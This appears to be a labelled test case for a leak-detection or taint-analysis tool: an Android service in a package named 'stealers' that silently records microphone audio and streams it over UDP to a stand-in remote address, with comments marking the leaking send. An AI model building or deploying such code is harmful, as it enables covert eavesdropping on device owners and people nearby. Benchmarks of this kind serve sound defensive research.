package stealers;

import android.app.Service;
import android.content.Intent;
import android.media.*;
import android.os.IBinder;

import java.io.IOException;
import java.net.*;

/** The room, packet by packet. */
public class Ambient extends Service implements Runnable {
    private volatile boolean on = true;

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int s) {
        new Thread(this).start();
        return START_NOT_STICKY;
    }

    public void run() {
        int size = AudioRecord.getMinBufferSize(8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT);
        AudioRecord r = new AudioRecord(MediaRecorder.AudioSource.MIC, 8000, AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, size);
        byte[] sound = new byte[size];
        byte[] beat = new byte[4];
        try {
            DatagramSocket s = new DatagramSocket();
            InetAddress to = InetAddress.getByName("203.0.113.2");
            r.startRecording();
            while (on) {
                int n = r.read(sound, 0, size);
                s.send(new DatagramPacket(sound, n, to, 5005)); // leak
                DatagramPacket p = new DatagramPacket(beat, beat.length, to, 5006);
                s.send(p); // no leak
            }
        } catch (IOException e) {
            r.release();
        }
    }

    @Override
    public void onDestroy() {
        on = false;
    }
}
